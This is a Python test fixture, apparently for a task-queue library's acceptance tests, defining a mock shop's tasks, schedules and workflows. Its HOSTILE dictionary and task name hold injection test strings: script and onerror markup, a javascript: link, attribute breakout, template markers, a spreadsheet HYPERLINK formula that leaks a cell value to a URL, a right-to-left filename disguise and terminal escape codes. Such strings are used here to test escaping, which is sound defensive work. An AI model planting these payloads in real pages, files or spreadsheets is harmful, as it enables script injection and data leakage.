"""The manager of a small shop, with tasks of every kind: `content` lets it leave a file, `application` serves it.

The file is named by the environment, as for the programs in `tests.acceptance`.
"""

import asyncio
import os
from collections.abc import Collection
from datetime import timedelta
from typing import Any, Final

from taskmanager import (
    QueueConfig,
    RecoveryConfig,
    Snooze,
    TaskContext,
    TaskError,
    TaskManager,
    TaskResult,
    Workflow,
    current_task,
    sleep,
    step,
    wait_for,
)

HOSTILE: Final = {
    "markup": "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    "attribute": "\" autofocus onfocus=\"document.title='owned'\" x='",
    "link": "javascript:document.title='owned'",
    "template": "{{ 7 * 7 }} {% raw %} &amp; &lt;b&gt; ]]> <!--",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"pay")',
    "direction": "invoice \u202egnp.exe\u2066 end",
    "control": "\x1b[31mred\x07\x1b[0m",
}
"""Texts that harm a page that takes them for anything but text."""

HOSTILE_TASK: Final = "app.<b>bold</b>:\"x\" 'y' &amp;"
LARGE_SIZE: Final = 8 * 1024 * 1024

manager = TaskManager(
    os.environ.get("SERVED_DB", "shop.db"),
    requeue_pending=True,
    synchronous="normal",
    store_poll=0.05,
    drain_timeout=0.05,
    instance_name="shop",
    queues=(
        QueueConfig("mail", max_concurrency=2),
        QueueConfig("imports", max_concurrency=1),
        QueueConfig("weather", max_concurrency=4),
    ),
    recovery=RecoveryConfig(check_interval_ms=1_000),
)
gate = asyncio.Event()
"""What tasks wait for that run until somebody lets them go."""
begun = asyncio.Event()
"""Set as soon as the code of a load runs."""
_reports: list[TaskContext] = []


def tell_progress(done: int) -> None:
    """Let all reports that are being built be so far."""
    for context in _reports:
        context.progress(done, 100, f"page {done}")


class PaymentRefused(Exception):
    """The bank said no."""


# Those that end.


@manager.task(
    name="shop.orders:charge", retries=2, retry_delay=0.01, exception_mapper={PaymentRefused: "PAYMENT_REFUSED"}
)
async def charge(order_id: int, amount: float, *, is_refused: bool = False) -> str:
    """Fails at each attempt if it shall."""
    current_task().log("asking the bank", order_id=order_id, amount=amount)
    if is_refused:
        raise PaymentRefused(f"order {order_id}: the bank refused {amount:.2f} EUR")
    return f"receipt-{order_id}"


@manager.task(name="shop.mail:send", queue_name="mail", retries=1, retry_delay=0.01)
async def send_mail(to: str, subject: str = "Your order", *, is_down: bool = False) -> dict[str, Any]:
    """Fails as a network does if it shall."""
    if is_down:
        try:
            raise ConnectionRefusedError(111, "Connection refused")
        except OSError as exc:
            raise RuntimeError(f"smtp.example.org does not answer, so {to} got no mail") from exc
    return {"to": to, "subject": subject, "message_id": f"<{len(to)}@example.org>"}


@manager.task(name="shop.images:resize", executor="thread")
def resize(path: str, width: int) -> str:
    """Run in a thread."""
    return f"{path}@{width}"


@manager.task(name="shop.stock:check")
async def check_stock(item: str) -> TaskResult[int]:
    """Return an error as a value."""
    return TaskResult(err=TaskError("OUT_OF_STOCK", f"no {item} is left", {"item": item, "ordered": 3}))


@manager.task(name="shop.stock:count", persist=False)
async def count_stock(shelf: int) -> int:
    """Memory only: its record comes with the next snapshot."""
    return shelf * 7


@manager.task(name=HOSTILE_TASK)
async def hostile(text: str, *, is_failing: bool = False) -> str:
    """Take a text, log it, give it back, or fail with it."""
    current_task().log(text, field=text)
    if is_failing:
        raise ValueError(text)
    return text


@manager.task(name="shop.exports:dump")
async def dump(size: int) -> str:
    """Return a large result."""
    return "0123456789abcdef" * (size // 16)


@manager.task(name="shop.stock:wait_for_delivery")
async def wait_for_delivery(item: str) -> Snooze:
    """Run again later, for ever."""
    return Snooze(timedelta(hours=2))


# Those that go on until the gate opens.


@manager.task(name="shop.reports:build", requeue_on_interrupt=True)
async def build_report(month: str, done: int = 62) -> str:
    """Show its progress, and wait."""
    context = current_task()
    context.progress(done, 100, f"page {done}")
    _reports.append(context)
    await gate.wait()
    return f"report of {month}"


@manager.task(name="shop.imports:load", queue_name="imports")
async def load(path: str) -> str:
    """Wait without a known end; not safe to repeat."""
    current_task().progress(1_204, text=path)
    begun.set()
    await gate.wait()
    return path


@manager.task(name="shop.cache:warm", persist=False)
async def warm_cache(shelf: int) -> int:
    """Wait, in memory only."""
    await gate.wait()
    return shelf


# One with steps.


async def reserve(order_id: int) -> str:
    """Succeed."""
    return f"reserved {order_id}"


async def pack(order_id: int) -> str:
    """Succeed as well."""
    return f"packed {order_id}"


@manager.task(name="shop.orders:fulfil", requeue_on_interrupt=True)
async def fulfil(order_id: int, *, is_patient: bool = True) -> str:
    """Do two steps, and then wait for an event that never comes, or for a day."""
    await step(reserve, order_id)
    await step.with_options(key="pack", retries=2)(pack, order_id)
    if is_patient:
        await sleep(timedelta(days=1))
    return await wait_for("courier", str)


# Schedules.


@manager.schedule(cron="30 2 * * *", timezone="Europe/Berlin", name="nightly report")
@manager.schedule(cron="0 9 * * MON", name="weekly <em>digest</em>")
@manager.task(name="shop.reports:nightly")
async def nightly() -> str:
    """Return at once."""
    return "done"


@manager.schedule(every=3_600, name="sweep")
@manager.task(name="shop.stock:sweep")
async def sweep() -> int:
    """Return at once."""
    return 3


# Workflows.


@manager.task(name="shop.weather:fetch", queue_name="weather", requeue_on_interrupt=True)
async def fetch(city: str, *, is_slow: bool = False) -> list[int]:
    """Begin; the slow one waits for the gate."""
    if is_slow:
        await gate.wait()
    if city == "Atlantis":
        raise LookupError("Atlantis is on no map")
    return [len(city), 20]


@manager.task(name="shop.weather:mean")
async def mean(degrees: list[int]) -> float:
    """Go on with one of many."""
    return sum(degrees) / len(degrees)


@manager.task(name="shop.weather:render")
async def render(title: str, means: list[float]) -> str:
    """Take what all of them gave."""
    return f"{title}: {means}"


def weather(
    cities: Collection[str],
    *,
    slow: Collection[str] = (),
    late: Collection[str] = (),
    name: str = "weather",
    is_pausing: bool = False,
) -> Workflow[str]:
    """A fan-out of two layers. The slow cities wait for the gate, and the late ones begin in an hour."""
    workflow = Workflow[str](name, on_error="pause" if is_pausing else "fail")
    means = []
    for city in cities:
        queue, delay = ("default" if city in slow else "weather"), (3_600 if city in late else None)
        call = fetch.with_options(queue_name=queue, delay=delay)
        page = workflow.add(call, city, is_slow=city in slow).named(f"fetch-{city}")
        means.append(workflow.add(mean, page.value).named(f"mean-{city}"))
    return workflow.output(workflow.add(render, "today", [each.value for each in means]).named("report"))


def nested() -> Workflow[str]:
    """A workflow in a workflow."""
    workflow = Workflow[str]("delivery")
    first = workflow.add(fetch, "Rome").named("plan")
    child = workflow.add_workflow(weather(["Oslo", "Bern"], name="forecast"), node_id="forecast").after(first)
    return workflow.output(workflow.add(render, "delivered", [1.0]).named("sign").after(child))
